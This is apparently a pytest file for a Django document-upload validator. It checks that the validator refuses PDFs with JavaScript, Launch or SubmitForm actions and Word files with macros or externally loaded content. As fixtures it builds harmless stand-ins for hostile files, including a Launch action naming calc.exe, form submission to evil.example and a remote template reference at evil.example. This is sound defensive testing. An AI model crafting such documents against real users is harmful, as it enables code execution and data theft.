"""Documents that would run something when opened are refused with a message saying how to
make a plain copy: PDFs with JavaScript, launch or submit actions; Word files with macros or
content loaded from outside when opened. Ordinary documents (a page to open at, links to
click) still pass."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from dienhinh.nominations.files import clean_document


def pdf(*, open_action=None, page_action=None, open_at_page=False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    if open_action is not None:
        # Inline in the catalog, as a hostile file would put it.
        writer._root_object[NameObject("/OpenAction")] = open_action
    if page_action is not None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): writer._add_object(page_action)}
        )
    if open_at_page:
        writer.open_destination = writer.pages[0]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **extra) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{k}"): TextStringObject(v) for k, v in extra.items()},
        }
    )


def docx(*, macros=False, external=None, hyperlink=False) -> bytes:
    out = io.BytesIO()
    types = "<Types><Default Extension='xml' ContentType='application/xml'/>"
    if macros:
        macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
        types += f"<Override PartName='/word/document.xml' ContentType='{macro_type}'/>"
    types += "</Types>"
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = "<Relationships>"
    if external:
        rels += (
            f'<Relationship Id="r1" Type="{base}/{external}" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
        )
    if hyperlink:
        rels += (
            f'<Relationship Id="r2" Type="{base}/hyperlink" '
            'Target="https://ldld.travinh.vn" TargetMode="External"/>'
        )
    rels += "</Relationships>"
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/_rels/document.xml.rels", rels)
        if macros:
            archive.writestr("word/vbaProject.bin", b"\x00" * 16)
    return out.getvalue()


def refusal(content: bytes, name: str) -> str:
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        clean_document(SimpleUploadedFile(name, content))
    return caught.value.messages[0]


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (pdf(open_action=action("/JavaScript", JS="app.alert(1)")), "JavaScript"),
        (pdf(open_action=action("/Launch", F="calc.exe")), "Launch"),
        (pdf(page_action=action("/SubmitForm", F="http://evil.example")), "SubmitForm"),
    ],
)
def test_a_pdf_that_runs_something_is_refused(content, what):
    message = refusal(content, "báo cáo.pdf")
    assert f"contains code that runs when it is opened ({what})" in message
    assert "Print to PDF" in message


def test_a_plain_pdf_and_one_that_opens_at_a_page_pass():
    for content in (pdf(), pdf(open_at_page=True)):
        assert clean_document(SimpleUploadedFile("a.pdf", content)).extension == "pdf"
    inline_destination = pdf(open_action=ArrayObject([NameObject("/Fit")]))
    assert clean_document(SimpleUploadedFile("b.pdf", inline_destination)).extension == "pdf"


def test_a_word_file_with_macros_is_refused():
    assert "contains macros" in refusal(docx(macros=True), "kế hoạch.docx")


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "frame"])
def test_a_word_file_loading_content_from_outside_is_refused(kind):
    assert "loads content from outside itself" in refusal(docx(external=kind), "a.docx")


def test_a_word_file_with_a_link_to_click_passes():
    assert clean_document(SimpleUploadedFile("a.docx", docx(hyperlink=True))).extension == "docx"
